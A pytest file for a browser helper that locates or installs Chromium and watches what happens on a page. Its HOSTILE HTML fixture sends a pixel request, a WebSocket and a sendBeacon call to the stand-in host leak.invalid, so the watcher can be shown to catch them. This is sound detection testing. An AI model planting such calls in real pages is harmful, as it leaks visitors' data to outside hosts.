"""The browser of the tests: found, installed or missed out loud; and what it watches."""

from __future__ import annotations

import stat
from pathlib import Path

import pytest
from browser import NoChromium, Visiting, find_chromium, missing, watched

HOSTILE = """<!doctype html><title>x</title><link rel="icon" href="data:,">
<img src="https://leak.invalid/pixel.png"><script>
  new WebSocket('wss://leak.invalid/socket');
  navigator.sendBeacon('https://leak.invalid/beacon', 'x');
  console.error('told');
  alert('hello');
  window.open('about:blank');
  throw new Error('thrown');
</script>"""


@pytest.fixture
def without_any(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A machine with no browser, of a user who is not root; the folder of its programs."""
    for name in ('CI', 'MATH500_BROWSER', 'MATH500_CHROMIUM'):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv('PATH', str(tmp_path))
    monkeypatch.setenv('TMPDIR', str(tmp_path))
    monkeypatch.setattr('tempfile.tempdir', str(tmp_path))
    monkeypatch.setattr('os.geteuid', lambda: 1000)
    return tmp_path


def program(path: Path, lines: str = 'exit 0') -> Path:
    path.write_text(f'#!/bin/sh\n{lines}\n', encoding='utf-8')
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    return path


@pytest.mark.parametrize(
    'name', ['chromium', 'chromium-browser', 'google-chrome', 'google-chrome-stable']
)
def test_one_on_the_path_is_found(name: str, without_any: Path) -> None:
    made = program(without_any / name)
    assert find_chromium() == made


def test_the_one_that_is_named_is_taken(without_any: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    program(without_any / 'chromium')
    mine = program(without_any / 'mine')
    monkeypatch.setenv('MATH500_CHROMIUM', str(mine))
    assert find_chromium() == mine
    mine.unlink()
    with pytest.raises(NoChromium, match=r'MATH500_CHROMIUM names .*mine'):
        find_chromium()


def test_only_root_installs(without_any: Path) -> None:
    program(without_any / 'apt-get', 'echo called; exit 1')
    with pytest.raises(NoChromium, match=r'none of chromium, .* is installed; install one'):
        find_chromium()


def test_root_installs_it_once(without_any: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """By a stand-in of ``apt-get``, which notes how it is called and makes the program."""
    monkeypatch.setattr('os.geteuid', lambda: 0)
    program(
        without_any / 'apt-get',
        f'echo "$@" >> {without_any}/calls\n[ "$1" = update ] && exit 0\n'
        f"printf '#!/bin/sh\\n' > {without_any}/chromium\n/bin/chmod +x {without_any}/chromium",
    )
    assert find_chromium() == find_chromium() == without_any / 'chromium'
    calls = (without_any / 'calls').read_text(encoding='utf-8').splitlines()
    assert calls == [
        'update',
        'install -y --no-install-recommends chromium fonts-dejavu-extra fonts-liberation',
    ]


@pytest.mark.parametrize('failing', ['update', 'install'])
def test_a_failed_install_says_so(
    failing: str, without_any: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr('os.geteuid', lambda: 0)
    program(
        without_any / 'apt-get', f'[ "$1" = {failing} ] || exit 0\necho E: no network >&2\nexit 100'
    )
    with pytest.raises(NoChromium, match=f'apt-get {failing} failed: E: no network'):
        find_chromium()


def test_an_install_without_a_program_says_so(
    without_any: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr('os.geteuid', lambda: 0)
    with pytest.raises(NoChromium, match='there is no apt-get'):
        find_chromium()
    program(without_any / 'apt-get')
    with pytest.raises(NoChromium, match='no such program is there'):
        find_chromium()


@pytest.mark.parametrize(('name', 'value'), [('CI', 'true'), ('MATH500_BROWSER', 'required')])
def test_a_missing_browser_fails_where_it_is_required(
    name: str, value: str, without_any: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(pytest.skip.Exception, match='no Chromium: gone'):
        missing(NoChromium('gone'))
    monkeypatch.setenv(name, value)
    with pytest.raises(pytest.fail.Exception, match='no Chromium, and here it is required: gone'):
        missing(NoChromium('gone'))


@pytest.mark.slow
def test_everything_that_goes_wrong_on_a_page_is_seen(visiting: Visiting, tmp_path: Path) -> None:
    calm, wild = tmp_path / 'calm.html', tmp_path / 'wild.html'
    calm.write_text('<!doctype html><title>x</title><p>calm', encoding='utf-8')
    wild.write_text(HOSTILE, encoding='utf-8')
    visit = visiting(calm, state='')
    assert visit.wrongs == []
    seen = watched(visit.page.context, wild)
    seen.page.goto(wild.as_uri())
    for _ in range(300):  # things of several processes, each in its time
        if len(seen.requests) >= 3 and seen.dialogs and seen.opened and len(seen.said) >= 2:
            break
        seen.page.wait_for_timeout(100)
    asked = {url.split('.invalid')[1] for url in seen.requests}
    assert asked == {'/pixel.png', '/socket', '/beacon'}
    assert seen.dialogs == ['hello']
    assert len(seen.opened) == 1
    assert any('told' in text for text in seen.said)
    assert any('thrown' in text for text in seen.said)
    assert len(seen.wrongs) >= 7
